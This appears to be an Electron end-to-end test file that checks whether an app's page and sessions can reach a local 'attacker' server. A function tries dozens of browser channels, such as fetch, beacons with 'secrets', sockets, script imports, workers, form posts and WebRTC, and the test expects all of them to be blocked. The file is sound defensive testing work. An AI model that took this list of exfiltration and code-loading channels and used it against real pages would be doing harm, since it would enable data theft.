import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { get, type Server as HttpServer, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../../helpers/electron-app.ts';
import { attack, windowUnderAttack } from './window-under-attack.ts';

const { launched, page } = windowUnderAttack();

/** A server of an attacker on this computer; it writes down who knocks. */
async function listen(): Promise<{
  port: number;
  udpPort: number;
  knocks: string[];
  server: HttpServer;
  close: () => void;
}> {
  const knocks: string[] = [];
  const server = createServer((request, response) => {
    knocks.push(`request ${request.url ?? ''}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('window.pwned = 1');
  });
  server.on('connection', () => knocks.push('connection'));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const udp = createSocket('udp4', () => knocks.push('datagram'));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  const close = (): void => {
    server.close();
    server.closeAllConnections();
    udp.close();
  };
  return { port: (server.address() as AddressInfo).port, udpPort: udp.address().port, knocks, server, close };
}

/** Everything by which a page can reach a server; resolves when each has failed or has had time to begin. */
async function tryEverything({ origin, udp }: { origin: string; udp: string }): Promise<string[]> {
  const reached: string[] = [];
  const note = (name: string) => () => reached.push(name);
  const add = (tag: string, attributes: Record<string, string>): Promise<void> =>
    new Promise((resolve) => {
      const element = document.createElement(tag);
      // A frame is "loaded" with an error page as well: whether it got through, the server knows.
      element.addEventListener('load', () => resolve());
      element.addEventListener('error', () => resolve());
      try {
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      } catch {
        resolve();
      }
      document.body.append(element);
      // Hints tell nobody how they fared; two frames later they have been read.
      requestAnimationFrame(() => requestAnimationFrame(() => resolve()));
    });
  const attempts: (() => unknown)[] = [
    () => fetch(`${origin}/fetch`, { mode: 'no-cors' }).then(note('fetch')),
    () =>
      fetch(`${origin}/keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST' }).then(
        note('keepalive'),
      ),
    () => navigator.sendBeacon(`${origin}/beacon`, 'secrets'),
    () =>
      new Promise<void>((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => {
          reached.push('xhr');
          resolve();
        };
        request.onerror = () => resolve();
        request.open('GET', `${origin}/xhr`);
        request.send();
      }),
    () =>
      new Promise<void>((resolve) => {
        const socket = new WebSocket(`${origin.replace('http', 'ws')}/websocket`);
        socket.onopen = note('websocket');
        socket.onclose = () => resolve();
      }),
    () =>
      new Promise<void>((resolve) => {
        const source = new EventSource(`${origin}/events`);
        source.onopen = note('events');
        source.onerror = () => {
          source.close();
          resolve();
        };
      }),
    () => add('img', { src: `${origin}/image` }),
    () => add('img', { srcset: `${origin}/image-set 2x` }),
    () => add('script', { src: `${origin}/script.js` }),
    () => add('script', { type: 'module', src: `${origin}/module.js` }),
    () => add('link', { rel: 'stylesheet', href: `${origin}/style.css` }),
    () => add('link', { rel: 'preconnect', href: origin }),
    () => add('link', { rel: 'dns-prefetch', href: origin }),
    () => add('link', { rel: 'prefetch', href: `${origin}/prefetch` }),
    () => add('link', { rel: 'preload', as: 'script', href: `${origin}/preload.js` }),
    () => add('link', { rel: 'modulepreload', href: `${origin}/module-preload.js` }),
    () => add('link', { rel: 'icon', href: `${origin}/favicon.ico` }),
    () => add('link', { rel: 'manifest', href: `${origin}/manifest.json` }),
    () => add('iframe', { src: `${origin}/frame` }),
    () => add('object', { data: `${origin}/object` }),
    () => add('embed', { src: `${origin}/embed` }),
    () => add('video', { src: `${origin}/video`, autoplay: '' }),
    () => add('audio', { src: `${origin}/audio`, autoplay: '' }),
    () => add('input', { type: 'image', src: `${origin}/input` }),
    () => add('webview', { src: `${origin}/webview` }),
    () => new FontFace('stolen', `url(${origin}/font.woff2)`).load().then(note('font')),
    () => {
      document.body.style.backgroundImage = `url(${origin}/background)`;
      document.body.style.setProperty('--stolen', `url(${origin}/variable)`);
      document.body.style.cursor = `url(${origin}/cursor), auto`;
    },
    () => import(/* @vite-ignore */ `${origin}/import.js`).then(note('import')),
    () => navigator.serviceWorker.register(`${origin}/worker.js`).then(note('service worker')),
    () => new Worker(`${origin}/worker.js`),
    () => new SharedWorker(`${origin}/worker.js`),
    () => {
      const link = document.createElement('a');
      link.href = '#nowhere';
      link.setAttribute('ping', `${origin}/ping`);
      document.body.append(link);
      link.click();
    },
    () => {
      const form = document.createElement('form');
      form.action = `${origin}/form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
    () => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0; url=${origin}/refresh`;
      document.head.append(meta);
    },
    async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      connection.createDataChannel('out');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise<void>((resolve) => {
        connection.onicegatheringstatechange = () => {
          if (connection.iceGatheringState === 'complete') resolve();
        };
        if (connection.iceGatheringState === 'complete') resolve();
      });
      connection.close();
    },
    async () => {
      const transport = new WebTransport(`${origin.replace('http:', 'https:')}/transport`);
      await transport.ready.then(note('transport'));
    },
  ];
  // Some wait for an answer for ever; by then their message would long have arrived.
  const patience = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 2000));
  for (const attempt of attempts) {
    try {
      await Promise.race([attempt(), patience()]);
    } catch {
      continue;
    }
  }
  return reached;
}

test('nothing in the page reaches a server, not even one on this computer', async () => {
  const attacker = await listen();
  try {
    for (const host of ['127.0.0.1', 'localhost']) {
      const given = {
        origin: `http://${host}:${String(attacker.port)}`,
        udp: `127.0.0.1:${String(attacker.udpPort)}`,
      };
      expect(await attack(await page(), tryEverything, given)).toEqual([]);
    }
    expect(attacker.knocks).toEqual([]);
    await knock(attacker.port);
    expect(attacker.knocks).toEqual(['connection', 'request /control']);
  } finally {
    attacker.close();
  }
});

test('no session of the app reaches a server, also none that is opened later', async () => {
  const attacker = await listen();
  try {
    const address = `http://127.0.0.1:${String(attacker.port)}/session`;
    const answers = await launched().app.evaluate(async ({ session, net }, url) => {
      const sessions = [
        session.defaultSession,
        session.fromPartition('later'),
        session.fromPartition('timelocker-window'),
      ];
      const words = (error: unknown): string => String(error);
      const tries = sessions.map((one) => one.fetch(url).then(() => 'reached', words));
      return Promise.all([...tries, net.fetch(url).then(() => 'reached', words)]);
    }, address);
    expect(answers).toEqual(Array(4).fill(expect.stringContaining('ERR_BLOCKED_BY_CLIENT')));
    expect(attacker.knocks).toEqual([]);
  } finally {
    attacker.close();
  }
});

/** Proves that the attacker would have heard: and takes the time of some round trips. */
async function knock(port: number): Promise<void> {
  const request = get({ port, host: '127.0.0.1', path: '/control', agent: false });
  const [response] = (await once(request, 'response')) as [NodeJS.ReadableStream];
  response.resume();
  await once(response, 'end');
}
